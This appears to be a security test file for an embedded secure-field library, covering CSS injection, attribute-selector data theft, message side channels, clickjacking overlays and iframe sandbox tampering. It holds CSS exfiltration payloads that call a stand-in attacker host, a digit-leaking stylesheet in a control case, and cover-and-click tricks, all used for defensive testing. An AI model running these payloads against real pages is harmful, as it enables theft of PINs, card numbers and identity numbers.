@@ -1,0 +1,308 @@
+// @ts-check
+// Rows 21 to 25: looks, sizes and attributes, which are the page's to choose.
+import assert from "node:assert/strict";
+import { describe } from "node:test";
+import { By } from "selenium-webdriver";
+import { clickOn, press } from "../browser/support/keys.mjs";
+import { until } from "../browser/support/wait.mjs";
+import { VISIBILITY } from "./support/features.mjs";
+import { row } from "./support/row.mjs";
+import { useAttackScene } from "./support/scene.mjs";
+import { CARD, OTHER_CARD, PIN, SSN, USES } from "./support/victim.mjs";
+
+describe("style and layout", () => {
+  const scene = useAttackScene();
+
+  /** @param {string} name */
+  const isLeaked = (name) => scene.attacker.log().includes(`GET /leak?${name}`);
+
+  row("21 style values that fetch, match or end something", ({ attack, control }) => {
+    /** @param {string} url */
+    const hostile = (url) => [
+      `url(${url})`,
+      `URL( "${url}" )`,
+      `u\\72l(${url})`,
+      `image-set("${url}" 1x)`,
+      `-webkit-image-set(url(${url}) 1x)`,
+      `red; background: url(${url})`,
+      `red } * { background: url(${url})`,
+      `red /* */ ; background: url(${url})`,
+      `@import "${url}";`,
+      `expression(fetch("${url}"))`,
+      `var(--x, url(${url}))`,
+      `attr(value)`,
+      `env(x, url(${url}))`,
+      `"Arial"; src: url(${url})`,
+      `Arial", url(${url}), "`,
+      `12px; background-image: url(${url})`,
+      `calc(1px + 1px)`,
+      `red\n;background:url(${url})`,
+      `</style><img src=${url}>`,
+    ];
+
+    attack("all are refused as a whole, and nothing is asked for", async () => {
+      const victim = await scene.victim("pin");
+      await victim.type("pin", PIN);
+      const values = hostile(scene.evil("leak?vault"));
+      const names = ["colorBackground", "fontFamily", "fontSize", "lineHeight", "--background", "__proto__"];
+      await victim.run(
+        `const [names, values] = arguments;
+        for (const name of names) for (const value of values) {
+          victim.session.update({ appearance: { variables: JSON.parse(JSON.stringify({ name: value }).replace('"name"', JSON.stringify(name))) } });
+        }`,
+        names,
+        values,
+      );
+      await until("each is refused", async () => {
+        const refused = (await victim.told()).filter(({ type, detail }) => type === "error" && detail.code === "invalid-options");
+        return refused.length === names.length * values.length;
+      });
+      assert.equal(await victim.inside("pin", "return document.documentElement.style.cssText"), "");
+      await scene.settle();
+      assert.ok(!isLeaked("vault"));
+      assert.equal(await victim.field("pin").value(), PIN);
+    });
+    attack("texts for people are texts", async () => {
+      const text = `<img src=${scene.evil("leak?label")}><style>*{background:url(${scene.evil("leak?label")})}</style>`;
+      const victim = await scene.victimPage();
+      const fields = [{ name: "pin", kind: "pin", options: { label: text.slice(0, 80), placeholder: text.slice(0, 80) } }];
+      await scene.open(victim, "pin", { fields, session: { locale: `en"><style>*{background:url(${scene.evil("leak?label")})}` } });
+      assert.equal(await victim.inside("pin", "return document.querySelector('label').textContent"), text.slice(0, 80));
+      assert.equal(await victim.inside("pin", "return document.querySelectorAll('img, style').length"), 0);
+      assert.ok(!isLeaked("label"));
+    });
+    control("a page that writes them into a style sheet asks the attacker", async () => {
+      await scene.visit("/clipboard.html");
+      await scene.driver.executeScript(
+        "document.head.append(Object.assign(document.createElement('style'), { textContent: `input { color: ${arguments[0]} }` }));",
+        `red; background: url(${scene.evil("leak?plain")})`,
+      );
+      await until("it is asked", () => isLeaked("plain"));
+    });
+  });
+
+  row("22 attribute selectors on what is typed or shown", ({ attack, control }) => {
+    const ATTRIBUTES = `
+      return [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.value)).concat(document.title);`;
+
+    attack("no attribute ever holds it", async () => {
+      const pin = await scene.victim("pin");
+      await pin.type("pin", PIN);
+      await pin.field("pin").toggle();
+      assert.equal(await pin.field("pin").value(), PIN);
+      assert.ok(!(await pin.inside("pin", ATTRIBUTES)).join("\n").includes(PIN));
+
+      const person = await scene.victim("ssn");
+      await person.type("ssn", SSN);
+      assert.ok(!(await person.inside("ssn", ATTRIBUTES)).join("\n").replaceAll("-", "").includes(SSN));
+
+      const card = await scene.viewedCard();
+      const { seen } = await card.reveal("number");
+      const attributes = (await card.inside("number", ATTRIBUTES)).join("\n");
+      for (const part of [CARD.number, ...seen.split(" ")]) assert.ok(!attributes.includes(part), attributes);
+    });
+    control("of an input that reflects its value, a style sheet tells the first digit", async () => {
+      await scene.visit("/clipboard.html");
+      const { driver } = scene;
+      await driver.executeScript(
+        `const input = document.querySelector("input");
+        input.addEventListener("input", () => input.setAttribute("value", input.value));
+        const rules = Array.from({ length: 10 }, (_, digit) => \`input[value^="\${digit}"] { background: url(\${arguments[0]}\${digit}) }\`);
+        document.head.append(Object.assign(document.createElement("style"), { textContent: rules.join("\\n") }));`,
+        scene.evil("leak?first"),
+      );
+      await clickOn(driver, await driver.findElement(By.css("input")));
+      await press(driver, PIN);
+      await until("the attacker knows it", () => isLeaked(`first${PIN[0]}`));
+    });
+  });
+
+  row("23 resize and change messages", ({ attack, control }) => {
+    /** Everything that the page hears and sees of a field while something is done. */
+    const SEE = `
+      window.seen = [];
+      const post = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
+      Object.defineProperty(MessagePort.prototype, "onmessage", {
+        ...post,
+        set(listener) { post.set.call(this, (event) => { seen.push(JSON.stringify(event.data)); listener(event); }); },
+      });`;
+    const LOOK = `
+      const frames = [...document.querySelectorAll("iframe.sordino-field")];
+      // Only ids differ from session to session.
+      const known = frames.map((frame) => frame.name);
+      const text = seen.map((line) => known.reduce((all, id, i) => all.replaceAll(id, "field" + i), line));
+      return JSON.stringify([text, frames.map((f) => [f.style.cssText, f.title, f.clientHeight, f.scrollHeight])]);`;
+
+    /**
+     * @param {string} text
+     * @param {string} [again]
+     */
+    async function transcript(text, again) {
+      const victim = await scene.victimPage();
+      await victim.run(SEE);
+      await scene.open(victim, again === undefined ? "ssn" : "pin");
+      // Which frame is ready first is a matter of chance.
+      await victim.run("seen.length = 0");
+      await victim.type(again === undefined ? "ssn" : "pin", text);
+      if (again !== undefined) {
+        await victim.type("again", again);
+        await victim.call();
+      }
+      return victim.run(LOOK);
+    }
+
+    attack("they are the same for any PIN, and for any number of digits that is not yet one", async () => {
+      assert.equal(await transcript(PIN, "0000"), await transcript("1937", "5555"));
+      assert.equal(await transcript("8", PIN), await transcript("193", "7777"));
+    });
+    attack("and for any SSN, and any card that is shown", async () => {
+      assert.equal(await transcript(SSN), await transcript("219099998"));
+      const shown = [];
+      for (const { id, number } of [CARD, OTHER_CARD]) {
+        const victim = await scene.victimPage();
+        await victim.run(SEE);
+        await scene.open(victim, "card", { token: await scene.tokenFor("card", { id }), input: { paymentCardId: id } });
+        await victim.run("seen.length = 0");
+        const outcome = await victim.call();
+        assert.ok("ok" in outcome);
+        await victim.reveal("number");
+        const { last4, network } = /** @type {any} */ (outcome.ok);
+        const said = await victim.run(LOOK);
+        shown.push(said.replaceAll(id, "id").replaceAll(last4, "last4").replaceAll(network, "network"));
+        assert.ok(!said.includes(number));
+      }
+      assert.equal(shown[0], shown[1]);
+    });
+    control("an input of the page's own tells the length", async () => {
+      const lengths = [];
+      for (const text of ["8", "193"]) {
+        await scene.visit("/clipboard.html");
+        const { driver } = scene;
+        await driver.executeScript("window.seen = []; addEventListener('input', () => seen.push('change'), true);");
+        await clickOn(driver, await driver.findElement(By.css("input")));
+        await press(driver, text);
+        lengths.push(await driver.executeScript("return seen.length"));
+      }
+      assert.deepEqual(lengths, [1, 3]);
+    });
+  });
+
+  row("24 a field that is hidden, covered or made small at the moment of reveal or copy", ({ attack, control }) => {
+    /** What hides a frame's content from its owner's eyes and leaves it to be clicked. @type {Record<string, string>} */
+    const TRICKS = {
+      transparent: "frame.style.opacity = '0'",
+      "nearly transparent, by an ancestor": "frame.parentElement.style.opacity = '0.01'",
+      clipped: "frame.style.clipPath = 'inset(0 0 0 80%)'",
+      transformed: "frame.style.transform = 'rotate(1deg)'",
+      filtered: "frame.style.filter = 'brightness(0)'",
+      "covered by what lets clicks through": `
+        const cover = document.createElement("div");
+        const { left, top, width, height } = frame.getBoundingClientRect();
+        cover.style.cssText = \`position:fixed;left:\${left}px;top:\${top}px;width:\${width}px;height:\${height}px;background:red;pointer-events:none\`;
+        document.body.append(cover);`,
+    };
+    const NARROW = "frame.style.width = '90px'";
+
+    /**
+     * @param {import("./support/victim.mjs").Victim} victim
+     * @param {string} trick
+     */
+    async function isCovered(victim, trick) {
+      const before = (await victim.told()).filter(({ type }) => type === "error").length;
+      await victim.run(`const frame = victim.frame("number"); ${trick}`);
+      // Waits until the field knows how it is seen: in the open it would be let through.
+      await until("it is refused", async () => {
+        await victim.clickReveal("number");
+        const { revealed } = await victim.shown("number");
+        assert.equal(revealed, false, `revealed although ${trick}`);
+        return (await victim.told()).filter(({ type, detail }) => type === "error" && detail.code === "covered").length > before;
+      });
+      await victim.clickCopy("number");
+      assert.ok(!(await victim.told()).some(({ type }) => type === "copy"), `copied although ${trick}`);
+    }
+
+    for (const [what, trick] of Object.entries(TRICKS)) {
+      attack(
+        `${what}: nothing is revealed or copied`,
+        async () => isCovered(await scene.viewedCard({ fields: [USES.card.fields[0]] }), trick),
+        VISIBILITY,
+      );
+    }
+    attack("too small to be read: nothing is revealed or copied", async () => {
+      await isCovered(await scene.viewedCard({ fields: [USES.card.fields[0]] }), NARROW);
+    });
+    control("in the open, the same click reveals", async () => {
+      const victim = await scene.viewedCard({ fields: [USES.card.fields[0]] });
+      assert.ok((await victim.reveal("number")).revealed);
+    });
+    control("a button in a plain frame is clicked under each of them", async () => {
+      for (const trick of [...Object.values(TRICKS), NARROW]) {
+        await scene.visit("/clipboard.html");
+        const { driver } = scene;
+        await driver.executeAsyncScript(
+          `const done = arguments[0];
+          window.clicks = 0;
+          const place = document.createElement("div");
+          const frame = document.createElement("iframe");
+          frame.id = "plain";
+          frame.srcdoc = "<button id=t onclick='parent.clicks += 1' style='width:60px;float:right'>show</button>";
+          frame.onload = () => { ${trick}; done(); };
+          place.append(frame);
+          document.body.append(place);`,
+        );
+        await driver.switchTo().frame(await driver.findElement(By.id("plain")));
+        await clickOn(driver, await driver.findElement(By.id("t")));
+        await driver.switchTo().defaultContent();
+        assert.equal(await driver.executeScript("return clicks"), 1, trick);
+      }
+    });
+  });
+
+  row("25 iframe attributes changed by the page", ({ attack, control }) => {
+    const CHANGES = [
+      "frame.removeAttribute('sandbox')",
+      "frame.setAttribute('sandbox', 'allow-scripts')",
+      "frame.setAttribute('sandbox', '')",
+      "frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-forms allow-modals allow-popups allow-top-navigation')",
+      "frame.setAttribute('allow', 'clipboard-read *; clipboard-write *; camera *; display-capture *')",
+      "frame.setAttribute('csp', \"script-src 'none'\")",
+      "frame.setAttribute('credentialless', '')",
+      "frame.setAttribute('loading', 'lazy')",
+      "frame.setAttribute('referrerpolicy', 'unsafe-url')",
+      "frame.setAttribute('srcdoc', '<p>mine</p>')",
+    ];
+    attack("it works, or refuses with a clear error, and is never weaker", async () => {
+      for (const change of CHANGES) {
+        const victim = await scene.victimPage();
+        await victim.run(
+          `const { src } = Object.getOwnPropertyDescriptors(HTMLIFrameElement.prototype);
+          Object.defineProperty(HTMLIFrameElement.prototype, "src", {
+            ...src,
+            set(value) { const frame = this; ${change}; window.changed = true; src.set.call(this, value); },
+          });`,
+        );
+        const end = await victim.open({ ...USES.pin, token: await scene.tokenFor("pin"), session: { timeout: 1_000 } });
+        assert.ok(await victim.run("return changed"), "the attack was made");
+        if ("error" in end) {
+          assert.equal(end.error.code, "frame-unavailable", change);
+          continue;
+        }
+        await victim.type("pin", PIN);
+        assert.equal(await victim.field("pin").value(), PIN, change);
+        const reached = await victim.run(
+          `return [...document.querySelectorAll("iframe")].some((frame) => {
+            try { return frame.contentDocument !== null || Boolean(frame.contentWindow.document); } catch { return false; }
+          });`,
+        );
+        assert.equal(reached, false, change);
+      }
+    });
+    control("a sandbox does what it says, and a document of the page's own is reached", async () => {
+      const frame = await scene.victimPage().then(() => scene.embed(scene.evil("frame.html"), "allow-forms"));
+      const ran = await scene.inside(frame, "return 'attacker' in window").catch(() => false);
+      assert.equal(ran, false, "its script does not run");
+      const own = await scene.embed(new URL("/clipboard.html", scene.addresses.app).href);
+      assert.ok(await scene.driver.executeScript("return arguments[0].contentDocument !== null", own));
+    });
+  });
+});
